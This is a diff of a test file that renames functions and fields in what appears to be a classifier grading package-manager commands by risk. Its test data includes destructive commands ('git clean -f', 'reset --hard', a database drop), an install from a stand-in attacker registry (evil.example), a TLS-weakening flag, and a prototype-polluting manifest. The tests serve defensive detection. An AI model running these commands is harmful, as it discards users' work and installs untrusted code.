@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import type { FixedFacts } from '../../../facts/fixed.ts'
-import { effectsOf, reading } from '../../testing.ts'
+import { effectsOf, readCommand } from '../../testing.ts'
 
 const project = (manifest: object): FixedFacts => ({
   files: { '/home/dev/project/package.json': JSON.stringify(manifest) },
@@ -20,15 +20,15 @@ const SCRIPTS = project({
 
 describe('packages: what is stated', () => {
   const cases: readonly (readonly [string, Record<string, unknown>, FixedFacts?])[] = [
-    ['npm run wipe', { kind: 'git-discard', via: ['npm run wipe'] }, SCRIPTS],
-    ['npm run deep', { kind: 'git-discard', via: ['npm run deep', 'npm run wipe'] }, SCRIPTS],
+    ['npm run wipe', { kind: 'git-discard', wrapperNames: ['npm run wipe'] }, SCRIPTS],
+    ['npm run deep', { kind: 'git-discard', wrapperNames: ['npm run deep', 'npm run wipe'] }, SCRIPTS],
     ['npm run build', { kind: 'git-discard', what: 'stash' }, SCRIPTS],
     ['yarn wipe', { kind: 'git-discard' }, SCRIPTS],
     ['pnpm wipe', { kind: 'git-discard' }, SCRIPTS],
     ['bun run wipe', { kind: 'git-discard' }, SCRIPTS],
     ['npm run pass -- reset --hard', { kind: 'git-discard', what: 'worktree' }, SCRIPTS],
     ['npm --prefix . run-script wipe', { kind: 'git-discard' }, SCRIPTS],
-    ['npm run deploy:prod', { kind: 'deploy', stage: 'production', certainty: 'likely' }],
+    ['npm run deploy:prod', { kind: 'deploy', environment: 'production', certainty: 'likely' }],
     ['pnpm release', { kind: 'publish', certainty: 'likely' }],
     ['npm run db:reset', { kind: 'database-change', statement: 'drop' }],
     ['npm install', { kind: 'install', origin: 'declared', scope: 'project' }],
@@ -69,7 +69,7 @@ describe('packages: what is stated', () => {
     ['pip install --extra-index-url https://evil.example x', { kind: 'install', origin: 'other-registry' }],
     ['pip install --trusted-host pypi.org x', { kind: 'weaken', area: 'tls' }],
     ['uv pip install x', { kind: 'install', origin: 'registry' }],
-    ['uv run git clean -f', { kind: 'git-discard', via: ['uv run'] }],
+    ['uv run git clean -f', { kind: 'git-discard', wrapperNames: ['uv run'] }],
     ['poetry publish', { kind: 'publish' }],
     ['twine upload dist/*', { kind: 'publish' }],
     ['gem push x.gem', { kind: 'publish' }],
@@ -124,7 +124,7 @@ describe('packages: grades', () => {
     'rustup target add wasm32-unknown-unknown',
     'nvm use 22',
     'corepack enable',
-  ])('expected: %s', (command) => expect(reading(command).grade).toBe('expected'))
+  ])('expected: %s', (command) => expect(readCommand(command).grade).toBe('expected'))
 
   it.each([
     'npm ls',
@@ -141,7 +141,7 @@ describe('packages: grades', () => {
     'npx --version',
     'pnpm why x',
     'npm run',
-  ])('proven: %s', (command) => expect(reading(command).grade).toBe('proven'))
+  ])('proven: %s', (command) => expect(readCommand(command).grade).toBe('proven'))
 
   it.each([
     'npm publish',
@@ -154,18 +154,20 @@ describe('packages: grades', () => {
     'npm test $FLAGS',
     'pip install x',
     'npm run deploy',
-  ])('none: %s', (command) => expect(reading(command).grade).toBeUndefined())
+  ])('none: %s', (command) => expect(readCommand(command).grade).toBeUndefined())
 
   it('takes a script it can read by its text alone', () => {
-    expect(reading('npm run deploy', project({ scripts: { deploy: 'git log -2' } })).grade).toBe('expected')
+    expect(readCommand('npm run deploy', project({ scripts: { deploy: 'git log -2' } })).grade).toBe('expected')
     expect(effectsOf('npm run deploy', project({ scripts: { deploy: 'git log -2' } }))).toEqual([])
-    expect(reading('npm test --silent', SCRIPTS).grade).toBe('expected')
+    expect(readCommand('npm test --silent', SCRIPTS).grade).toBe('expected')
   })
-  it('ends when a script calls itself', () => expect(() => reading('npm run again', SCRIPTS)).not.toThrow())
+  it('ends when a script calls itself', () => expect(() => readCommand('npm run again', SCRIPTS)).not.toThrow())
   it('runs a declared tool without fetching it', () =>
     expect(effectsOf('npx left-tool', SCRIPTS).some((effect) => effect.kind === 'install')).toBe(false))
   it('survives a broken or hostile manifest', () => {
     for (const text of ['{', 'null', '[]', '{"scripts":null}', '{"scripts":{"__proto__":"x","test":3}}'])
-      expect(() => reading('npm test --silent', { files: { '/home/dev/project/package.json': text } })).not.toThrow()
+      expect(() =>
+        readCommand('npm test --silent', { files: { '/home/dev/project/package.json': text } }),
+      ).not.toThrow()
   })
 })
